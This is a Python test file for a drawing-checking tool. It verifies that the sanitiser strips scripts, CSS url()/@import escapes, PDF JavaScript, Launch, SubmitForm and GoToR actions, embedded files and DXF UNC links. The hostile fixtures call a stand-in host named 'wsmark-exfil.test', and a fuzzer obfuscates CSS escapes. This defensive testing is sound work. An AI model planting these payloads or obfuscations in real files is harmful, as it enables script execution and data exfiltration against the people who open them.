"""Nothing active survives into what wsmark writes from a vendor's drawing (issue 32).

The reproducers of found/turn4 (tests/data/hostile), 38 known SVG/CSS script and
exfiltration vectors (tests/hostile_vectors.py) through the sanitiser and through ``wsmark
fix`` and ``check --annotate``, PDFs with every kind of action, and every output opened in
Chromium with the network watched: the untouched vendor file is opened too, so the test
shows that the watch sees what runs and fetches."""

from __future__ import annotations

import io
import os
import re
import xml.etree.ElementTree as ET
from base64 import b64decode
from pathlib import Path
from typing import Any

import pypdf
import pytest
from hostile_vectors import VECTORS
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    StreamObject,
    TextStringObject,
)

from markers import api
from markers.core.clean_svg import clean_css, clean_svg_bytes, decoded_css
from markers.products.check_run import CheckOutputs
from render.pdf import active_content

DATA = Path(__file__).resolve().parents[1] / "data" / "hostile"
HOST = "wsmark-exfil.test"
URL = f"http://{HOST}"
JS = f"fetch('{URL}/script-ran')"
SVG_NS = "{http://www.w3.org/2000/svg}"


def _vendor(fragments: list[str]) -> bytes:
    """The turn-4 proof (a 24 in control sign from CorelDRAW) without its own vectors,
    with ``fragments`` inside its root."""
    text = (DATA / "fix-frame-js.svg").read_text()
    text = "\n".join(line for line in text.splitlines()
                     if "h:frame" not in line and "h:img" not in line and "75rl" not in line)
    head, _, rest = text.partition("<defs>")
    return (head + "\n".join(fragments) + "\n<defs>" + rest).encode()


def _fragment(vector: str) -> str:
    return vector.replace("{url}", URL).replace("{js}", JS).replace("{{", "{") \
        .replace("}}", "}")


def _active(svg: bytes) -> list[str]:
    """What in ``svg`` could run or fetch: the listener's host, a script scheme, a
    scripting element, an event attribute, a foreign element, an escape in CSS; and the
    same in every SVG picture (``data:``) inside it."""
    text = svg.decode("utf-8")
    pictures = re.findall(r"data:image/svg\+xml;base64,([A-Za-z0-9+/=]+)", text)
    found = [word for word in (HOST, "javascript:", "srcset", "@import", "\\")
             if word in text]
    root = ET.fromstring(svg)
    for node in root.iter():
        tag = node.tag if isinstance(node.tag, str) else ""
        if not tag.startswith(SVG_NS):
            found.append(f"element {tag}")
        elif tag[len(SVG_NS):] in ("script", "foreignObject", "animate", "set", "handler",
                                   "feImage", "cursor"):
            found.append(f"element {tag}")
        found += [f"attribute {key}" for key in node.attrib if key.lower().startswith("on")]
        if tag == f"{SVG_NS}style" and re.search(r"url\((?!#)|@", node.text or ""):
            found.append("style fetches")
    return found + [f"picture: {f}" for data in pictures for f in _active(b64decode(data))]


@pytest.mark.parametrize("name,vector,source", VECTORS, ids=[v[0] for v in VECTORS])
def test_sanitiser_removes_each_vector(name, vector, source):
    raw = _vendor([_fragment(vector)])
    assert _active(raw), f"{name} ({source}) is not active before cleaning"
    cleaned = clean_svg_bytes(raw)
    assert _active(cleaned) == [], name
    # the drawing itself is kept: its orange ring and lettering
    assert cleaned.count(b"<path") == raw.count(b"<path") - vector.count("<path")


def test_css_escapes_decoded_before_the_test():
    assert decoded_css(r"\75rl(") == "url("
    assert decoded_css(r"@\69mport") == "@import"
    assert decoded_css("u/**/rl(") == "u rl("
    assert decoded_css(r"\000075 rl(") == "url("
    assert clean_css(r".a{fill:\75rl(http://x/y)} .b{fill:u\rl(#g)}") == ".a{}\n.b{fill:url(#g)}"
    assert clean_css(r"@\69mport 'http://x/a.css'; .c{stroke:red}") == ".c{stroke:red}"
    assert clean_css("@media print { .d { fill: green } } .e{fill:red}") == ".e{fill:red}"


def test_fix_reproducer_frame_js_and_css_escapes():
    """found/turn4/fix-frame-js.svg: the frame, the img and the escaped url() are gone
    from the fixed SVG, which still passes."""
    raw = (DATA / "fix-frame-js.svg").read_bytes()
    assert "element" in " ".join(_active(raw))
    fixed = api.fix(raw, "fix-frame-js.svg", ".svg", api.CheckOptions(display_height=24))
    assert fixed.data is not None
    assert _active(fixed.data) == []
    assert b"127.0.0.1:18777" not in fixed.data
    report, _ = api.check(fixed.data, "fixed.svg")
    assert report.verdict == "pass"


@pytest.fixture(scope="module")
def all_vectors():
    """One proof holding every vector, and its fix as SVG with the overlay and marked copy."""
    raw = _vendor([_fragment(v) for _, v, _ in VECTORS])
    return raw, api.fix(raw, "all-vectors.svg", ".svg", api.CheckOptions(display_height=24),
                        overlay=True)


def test_fix_and_annotate_carry_no_vector(all_vectors):
    """Every vector at once in one proof: fix's SVG and PDF, and the marked copies as SVG
    (the vendor's drawing is a data: picture inside, itself cleaned) hold none of them."""
    raw, fixed = all_vectors
    options = api.CheckOptions(display_height=24)
    assert fixed.data is not None and _active(fixed.data) == []
    for copy in [*fixed.overlay, *fixed.marked]:
        assert b"data:image/svg+xml;base64," in copy  # the vendor's drawing, pictured
        assert _active(copy) == []
    as_pdf = api.fix(raw, "all-vectors.svg", ".pdf", options)
    assert as_pdf.data is not None and active_content(as_pdf.data) == []
    assert HOST.encode() not in as_pdf.data


def _pdf_with() -> bytes:
    """The turn-4 PDF proof with more active content: Launch, SubmitForm and GoToR
    links, an embedded file, and a form that imports another file's page (/Ref)."""
    writer = pypdf.PdfWriter(clone_from=pypdf.PdfReader(DATA / "fix-keeps-pdf-javascript.pdf"))
    page = writer.pages[0]
    annots = page.get("/Annots") or ArrayObject()
    for kind, extra in (("/Launch", {"/F": TextStringObject("calc.exe")}),
                        ("/SubmitForm", {"/F": TextStringObject(f"{URL}/submit")}),
                        ("/GoToR", {"/F": TextStringObject(f"{URL}/remote.pdf")})):
        action = DictionaryObject({NameObject("/S"): NameObject(kind)})
        action.update({NameObject(k): v for k, v in extra.items()})
        annot = DictionaryObject({
            NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject("/Link"),
            NameObject("/Rect"): ArrayObject([NumberObject(0), NumberObject(0),
                                              NumberObject(500), NumberObject(500)]),
            NameObject("/A"): action})
        annots.append(writer._add_object(annot))
    page[NameObject("/Annots")] = annots
    form = StreamObject()  # a reference XObject: another file's page, never drawn here
    form.update({NameObject("/Type"): NameObject("/XObject"),
                 NameObject("/Subtype"): NameObject("/Form"),
                 NameObject("/BBox"): ArrayObject([NumberObject(0)] * 4),
                 NameObject("/Ref"): DictionaryObject({
                     NameObject("/F"): TextStringObject(f"{URL}/imported.pdf"),
                     NameObject("/Page"): NumberObject(0)})})
    resources = page["/Resources"].get_object()
    xobjects = resources.get("/XObject", DictionaryObject()).get_object()
    xobjects[NameObject("/WsRef")] = writer._add_object(form)
    resources[NameObject("/XObject")] = xobjects
    writer.add_attachment("exfil.txt", b"secret")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def test_fix_reproducer_pdf_javascript_and_more_actions():
    """found/turn4/fix-keeps-pdf-javascript.pdf (page /AA, JavaScript and URI links, a
    document /OpenAction), and the same proof with Launch, SubmitForm and GoToR links, an
    embedded file and a /Ref form: the fixed PDF holds none of it, and still passes."""
    for raw in ((DATA / "fix-keeps-pdf-javascript.pdf").read_bytes(), _pdf_with()):
        before = active_content(raw)
        assert any("/AA" in f for f in before) and any("/Annots" in f for f in before)
        fixed = api.fix(raw, "vendor.pdf", ".pdf")
        assert fixed.data is not None
        assert active_content(fixed.data) == []
        for word in (b"/JavaScript", b"/URI", b"/Launch", b"/SubmitForm", b"/GoToR",
                     b"/EmbeddedFile", b"calc.exe", b"secret"):
            assert word not in fixed.data, word
        assert api.check(fixed.data, "fixed.pdf")[0].verdict == "pass"


def test_pdf_active_content_found_in_each_form():
    """The test's own eye (render.pdf.active_content) sees each kind it is asked about."""
    found = " ".join(active_content(_pdf_with()))
    for word in ("/AA", "/OpenAction", "/Annots", "/Names", "action /Launch",
                 "action /SubmitForm", "action /GoToR", "/EmbeddedFile", "/Ref"):
        assert word in found, word


def _opened(paths: list[Path]) -> dict[str, list[str]]:
    """Each file opened from disk in Chromium (as a clerk double-clicks it), the network
    watched: every request that is not the file itself (Playwright sees a frame's and an
    image's requests, a script's fetch; all are aborted, and every host name resolves to
    nowhere, so nothing leaves even unseen)."""
    sync_api = pytest.importorskip("playwright.sync_api")
    seen: dict[str, list[str]] = {}
    with sync_api.sync_playwright() as playwright:
        browser = playwright.chromium.launch(
            executable_path=CHROMIUM, args=["--headless", "--no-sandbox", "--disable-gpu",
                                            "--host-resolver-rules=MAP * ~NOTFOUND"])
        try:
            for path in paths:
                context = browser.new_context()
                requests: list[str] = []
                context.on("request", lambda r, out=requests: out.append(r.url))
                context.route(re.compile(r"^(?!file:|data:)"), lambda route: route.abort())
                page = context.new_page()
                page.on("dialog", lambda d, out=requests: (out.append("dialog"), d.dismiss()))
                page.goto(path.as_uri(), wait_until="load")
                page.wait_for_timeout(300)  # an animation's onbegin, a frame's script
                seen[path.name] = [u for u in requests
                                   if u != path.as_uri() and not u.startswith("data:")]
                context.close()
        finally:
            browser.close()
    return seen


CHROMIUM = "/usr/bin/chromium"


@pytest.mark.skipif(not Path(CHROMIUM).exists(), reason="needs chromium (make chromium)")
def test_outputs_opened_in_chromium_run_and_fetch_nothing(tmp_path, all_vectors):
    """The vendor's file with every vector runs scripts and fetches in Chromium (the
    watch sees it); fix's SVG and the marked copy, opened the same way, do neither."""
    raw, fixed = all_vectors
    files = {"vendor.svg": raw, "fixed.svg": fixed.data, "overlay.svg": fixed.overlay[0],
             "marked.svg": fixed.marked[0],
             "turn4-fixed.svg": api.fix((DATA / "fix-frame-js.svg").read_bytes(), "f.svg",
                                        ".svg", api.CheckOptions(display_height=24)).data}
    for name, data in files.items():
        (tmp_path / name).write_bytes(data)
    seen = _opened([tmp_path / name for name in files])
    vendor = seen.pop("vendor.svg")
    assert f"{URL}/script-ran" in vendor and len(vendor) >= 5, vendor
    assert seen == {name: [] for name in seen}


def _escaped_css(draw, text: str) -> str:
    """``text`` with some letters written as CSS escapes (``\\75``, ``\\000075 ``,
    ``\\u``), comments between tokens and upper case, as a browser still reads it."""
    out = []
    for char in text:
        how = draw(st.integers(0, 7))
        if char.isalpha() and how == 1:
            out.append(f"\\{ord(char):x} ")
        elif char.isalpha() and how == 2:
            out.append(f"\\{ord(char):06x}")
        elif char.isalpha() and how == 3 and char.lower() not in "abcdef":
            out.append("\\" + char)
        elif char.isalpha() and how == 4:
            out.append(char.upper())
        else:
            out.append(char)
        if char in "(:;" and how == 5:
            out.append("/**/")
    return "".join(out)


_CSS_VECTORS = [(n, v) for n, v, _ in VECTORS if "<style" in v or "style=" in v]


@st.composite
def _hostile_proof(draw) -> bytes:
    """A vendor proof with a few vectors, their CSS written in escapes, comments and
    upper case, and the XHTML namespace under any prefix."""
    chosen = draw(st.lists(st.sampled_from(VECTORS), min_size=1, max_size=6))
    prefix = draw(st.sampled_from(["h", "x", "html", "Q"]))
    fragments = []
    for name, vector, _ in chosen:
        text = _fragment(vector).replace("<h:", f"<{prefix}:").replace("xmlns:h=",
                                                                        f"xmlns:{prefix}=")
        if (name, vector) in _CSS_VECTORS:
            head, sep, rest = text.partition(">") if "<style" in text else \
                text.partition('style="')
            body, end, tail = rest.rpartition("</style>") if "<style" in text else \
                rest.partition('"')
            text = head + sep + _escaped_css(draw, body) + end + tail
        fragments.append(text)
    return _vendor(fragments)


@settings(max_examples=int(os.environ.get("WSMARK_FUZZ_EXAMPLES", "10")), deadline=None,
          suppress_health_check=list(HealthCheck))
@given(_hostile_proof())
def test_sanitiser_on_obfuscated_vectors(raw):
    """Vectors in combination, their CSS obfuscated as CSS allows: none survives the
    sanitiser (make fuzz: 2,000 proofs)."""
    assert _active(raw)
    assert _active(clean_svg_bytes(raw)) == []


def test_long_hostile_values_are_cleaned_in_one_pass():
    """250,000 unclosed ``url(`` in a style, an attribute and a sheet: each dropped (a
    URL pattern that searched to the end from every ``url(`` took quadratic time)."""
    many = "url(" * 250_000
    raw = _vendor([f'<rect width="1" height="1" style="fill:{many}" fill="{many}"/>',
                   f"<style>.a{{fill:{many}}}</style>"])
    cleaned = clean_svg_bytes(raw)
    assert b"url(" not in cleaned and _active(cleaned) == []


def _dxf_with_links(path: Path) -> bytes:
    """The turn-4 DXF proof (its legend made plain) with what reaches outside a DXF when
    it is opened: an IMAGE and a PDF UNDERLAY of UNC paths (an SMB fetch), an xref block
    inserted, an AutoCAD hyperlink (PE_URL XDATA) on every entity, a $HYPERLINKBASE."""
    import ezdxf

    doc = ezdxf.readfile(DATA / "dxf-control-char-legend.dxf")
    msp = doc.modelspace()
    for text in msp.query("TEXT MTEXT"):
        text.dxf.text = "SLOW NO WAKE" if "SLOW" in text.dxf.text else text.dxf.text
    image = doc.add_image_def(filename=rf"\\{HOST}\share\image.png", size_in_pixel=(9, 9))
    msp.add_image(image, insert=(50, 50), size_in_units=(1, 1))
    underlay = doc.add_underlay_def(filename=rf"\\{HOST}\share\under.pdf", fmt="pdf")
    msp.add_underlay(underlay, insert=(60, 60))
    doc.add_xref_def(rf"\\{HOST}\share\xref.dwg", "VENDORXREF")
    msp.add_blockref("VENDORXREF", (70, 70))
    doc.appids.new("PE_URL")
    for entity in msp:
        entity.set_xdata("PE_URL", [(1000, f"{URL}/link"), (1002, "{"), (1071, 1),
                                    (1002, "}")])
    doc.header["$HYPERLINKBASE"] = f"{URL}/base/"
    doc.saveas(path)
    return path.read_bytes()


def test_fixed_dxf_opens_nothing_outside_itself(tmp_path):
    """A repaired DXF, like SVG and PDF, carries none of the vendor's images, underlays,
    xrefs or hyperlinks (before: the image's and the xref's paths were kept), and passes."""
    raw = _dxf_with_links(tmp_path / "vendor.dxf")
    assert raw.count(HOST.encode()) >= 4
    fixed = api.fix(raw, "vendor.dxf", ".dxf")
    assert fixed.data is not None
    for word in (HOST.encode(), b"VENDORXREF", b"$HYPERLINKBASE"):
        assert word not in fixed.data, word
    import ezdxf

    doc = ezdxf.read(io.StringIO(fixed.data.decode("utf-8")))
    kinds = {e.dxftype() for e in doc.entitydb.values()}
    assert not kinds & {"IMAGE", "IMAGEDEF", "PDFUNDERLAY", "PDFDEFINITION"}, kinds
    assert not [b.name for b in doc.blocks if b.block is not None and b.block.is_xref]
    assert not [e for e in doc.entitydb.values() if e.has_xdata("PE_URL")]
    assert api.check(fixed.data, "fixed.dxf")[0].verdict == "pass"


# --- every writer, over generated hostile proofs (make fuzz, make hostile) ------------

#: Generated proofs through every writer: ``make fuzz`` and ``make hostile`` set it (a
#: PDF takes about 2 CPU s through them all, an SVG 1); the suite runs none.
WRITER_EXAMPLES = int(os.environ.get("WSMARK_WRITER_EXAMPLES", "0"))
_writers = pytest.mark.skipif(not WRITER_EXAMPLES, reason="make fuzz / make hostile")
#: What no file wsmark writes may hold, as bytes (a vector's own words).
_WORDS = (HOST.encode(), b"/JavaScript", b"/URI", b"/Launch", b"/SubmitForm", b"/GoToR",
          b"/GoToE", b"/ImportData", b"/Rendition", b"/EmbeddedFile", b"/XFA", b"app.alert",
          b"calc.exe", b"exfil-secret")


def _no_active_pdf(pdf: bytes, what: str) -> None:
    assert active_content(pdf) == [], what
    for word in _WORDS:
        assert word not in pdf, (what, word)


def _written(raw: bytes, name: str, tmp: Path, options: api.CheckOptions) -> dict[str, bytes]:
    """Every file wsmark writes from the proof ``raw``: fix's compliant version as SVG and
    PDF (where it can be written as that), its report and overlay pages; check's
    marked-up copies (SVG and, as ``check --annotate x.pdf`` makes it, PDF) and its
    clerk's report (``--report``), the last two through ``check_paths`` in budgeted
    workers as the command does."""
    out: dict[str, bytes] = {}
    suffixes = (".svg", ".pdf") if name.endswith(".svg") else (".pdf",)
    for suffix in suffixes:
        fixed = api.fix(raw, name, suffix, options, overlay=suffix == suffixes[0])
        if fixed.data is not None:
            out[f"fixed{suffix}"] = fixed.data
        if fixed.overlay:
            out.update({f"overlay-{i}.svg": page for i, page in enumerate(fixed.overlay)})
            out.update({f"fix-marked-{i}.svg": page for i, page in enumerate(fixed.marked)})
            out["fix-report.pdf"] = api.fix_report(fixed)
    report, marked = api.check(raw, name, options, annotate_copy=True)
    if marked is not None:
        out["marked.svg"] = marked
    path = tmp / name
    path.write_bytes(raw)
    for _, _, made in api.check_paths([path], options, jobs=1, outputs=CheckOutputs(
            copy=".pdf", report=True, stamp="")):
        assert made is not None and made.refused is None, made
        out["annotate.pdf"], out["report.pdf"] = made.pdf or b"", made.report or b""
    return out


def _assert_inert(out: dict[str, bytes]) -> None:
    """Each output parsed back (SVG as XML, PDF by pypdf): nothing runs or fetches."""
    for what, data in out.items():
        if what.endswith(".svg"):
            assert _active(data) == [], what
        elif data:
            _no_active_pdf(data, what)


@_writers
@settings(max_examples=max(1, WRITER_EXAMPLES), deadline=None,
          suppress_health_check=list(HealthCheck))
@given(raw=_hostile_proof())
def test_every_writer_on_obfuscated_svg_vectors(tmp_path_factory, raw):
    """Vendor SVGs with script, foreignObject, event attributes, CSS url() and @import
    in escapes, through fix (SVG, PDF, overlay, report) and check (--annotate as SVG and
    PDF, --report): nothing active in any of them, each parsed back."""
    out = _written(raw, "vendor.svg", tmp_path_factory.mktemp("svg"),
                   api.CheckOptions(display_height=24))
    assert "fixed.svg" in out and "report.pdf" in out
    _assert_inert(out)


#: Action types (PDF 32000-1 12.6.4) a generated PDF carries, with what each names.
_ACTIONS = {
    "/JavaScript": lambda: {"/JS": TextStringObject("app.alert(1); this.submitForm("
                                                    f"'{URL}/js')")},
    "/URI": lambda: {"/URI": TextStringObject(f"{URL}/uri")},
    "/Launch": lambda: {"/F": TextStringObject("calc.exe"),
                        "/Win": DictionaryObject({NameObject("/F"): TextStringObject("calc.exe")})},
    "/SubmitForm": lambda: {"/F": TextStringObject(f"{URL}/submit")},
    "/ImportData": lambda: {"/F": TextStringObject(f"{URL}/data.fdf")},
    "/GoToR": lambda: {"/F": TextStringObject(f"{URL}/remote.pdf"), "/D": ArrayObject(
        [NumberObject(0)])},
    "/GoToE": lambda: {"/F": TextStringObject(f"{URL}/embedded.pdf")},
    "/Rendition": lambda: {"/JS": TextStringObject(f"app.launchURL('{URL}/r')")},
}
#: Where an action rides (PDF 32000-1 12.6.3): the document's open action, the document
#: and page additional actions, an annotation's /A and /AA.
_TRIGGERS = ("/WC", "/WS", "/DS", "/WP", "/DP")
_PAGE_TRIGGERS = ("/O", "/C")
_ANNOTS = ("/Link", "/Widget", "/Stamp", "/Screen", "/FileAttachment", "/RichMedia")


def _action(draw, writer, depth: int = 0) -> Any:
    kind = draw(st.sampled_from(sorted(_ACTIONS)))
    action = DictionaryObject({NameObject("/S"): NameObject(kind)})
    action.update({NameObject(k): v for k, v in _ACTIONS[kind]().items()})
    if kind == "/JavaScript" and draw(st.booleans()):  # the script as a stream
        stream = StreamObject()
        stream.set_data(b"app.alert('exfil-secret')")
        action[NameObject("/JS")] = writer._add_object(stream)
    if depth < 2 and draw(st.booleans()):  # a chain: /Next
        action[NameObject("/Next")] = _action(draw, writer, depth + 1)
    return writer._add_object(action) if draw(st.booleans()) else action


def _annotation(draw, writer) -> Any:
    subtype = draw(st.sampled_from(_ANNOTS))
    annot = DictionaryObject({
        NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject(subtype),
        NameObject("/Rect"): ArrayObject([NumberObject(v) for v in (0, 0, 2000, 2000)]),
        NameObject("/A"): _action(draw, writer)})
    if draw(st.booleans()):
        annot[NameObject("/AA")] = DictionaryObject({NameObject(draw(st.sampled_from(
            ("/E", "/X", "/D", "/U", "/Fo", "/PO")))): _action(draw, writer)})
    if subtype == "/FileAttachment":
        ef = StreamObject()
        ef.set_data(b"exfil-secret")
        ef[NameObject("/Type")] = NameObject("/EmbeddedFile")
        annot[NameObject("/FS")] = DictionaryObject({
            NameObject("/Type"): NameObject("/Filespec"), NameObject("/F"): TextStringObject(
                "exfil.txt"), NameObject("/EF"): DictionaryObject({
                    NameObject("/F"): writer._add_object(ef)})})
    if subtype == "/RichMedia":
        annot[NameObject("/RichMediaContent")] = DictionaryObject({
            NameObject("/Assets"): DictionaryObject()})
    return writer._add_object(annot)


@st.composite
def _hostile_pdf(draw) -> bytes:
    """The turn-4 PDF proof with a random set of what runs, fetches or embeds: an open
    action, document and page additional actions, a JavaScript name tree, embedded
    files, an AcroForm with XFA (its script inside), annotations of six kinds carrying
    actions of eight types, some chained (/Next), some in streams."""
    writer = pypdf.PdfWriter(clone_from=pypdf.PdfReader(DATA / "fix-keeps-pdf-javascript.pdf"))
    root, page = writer._root_object, writer.pages[0]
    if draw(st.booleans()):
        root[NameObject("/OpenAction")] = _action(draw, writer)
    for owner, triggers in ((root, _TRIGGERS), (page, _PAGE_TRIGGERS)):
        chosen = draw(st.lists(st.sampled_from(triggers), unique=True, max_size=3))
        if chosen:
            owner[NameObject("/AA")] = DictionaryObject(
                {NameObject(t): _action(draw, writer) for t in chosen})
    for n in range(draw(st.integers(0, 2))):
        writer.add_attachment(f"exfil-{n}.txt", b"exfil-secret")
    if draw(st.booleans()):  # a document-level script (the /JavaScript name tree)
        names = root.get("/Names") or DictionaryObject()
        names = names.get_object()
        names[NameObject("/JavaScript")] = DictionaryObject({NameObject("/Names"): ArrayObject(
            [TextStringObject("wsmark"), _action(draw, writer)])})
        root[NameObject("/Names")] = names
    if draw(st.booleans()):
        xfa = StreamObject()
        xfa.set_data(b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><script>'
                     b"app.alert('exfil-secret')</script></xdp:xdp>")
        root[NameObject("/AcroForm")] = DictionaryObject({
            NameObject("/Fields"): ArrayObject(), NameObject("/XFA"): writer._add_object(xfa)})
    annots = page.get("/Annots") or ArrayObject()
    for _ in range(draw(st.integers(0, 4))):
        annots.append(_annotation(draw, writer))
    page[NameObject("/Annots")] = annots
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


@_writers
@settings(max_examples=max(1, WRITER_EXAMPLES), deadline=None,
          suppress_health_check=list(HealthCheck))
@given(raw=_hostile_pdf())
def test_every_writer_on_generated_active_pdfs(tmp_path_factory, raw):
    """Vendor PDFs with every kind of action, annotation, embedded file and XFA through
    fix (PDF, overlay, report) and check (--annotate as SVG and PDF, --report): nothing
    active in any of them, each parsed back (pypdf), and the fixed file still passes."""
    assert any("/AA" in f for f in active_content(raw))
    out = _written(raw, "vendor.pdf", tmp_path_factory.mktemp("pdf"), api.CheckOptions())
    assert "fixed.pdf" in out and "report.pdf" in out
    _assert_inert(out)
    assert api.check(out["fixed.pdf"], "fixed.pdf")[0].verdict == "pass"
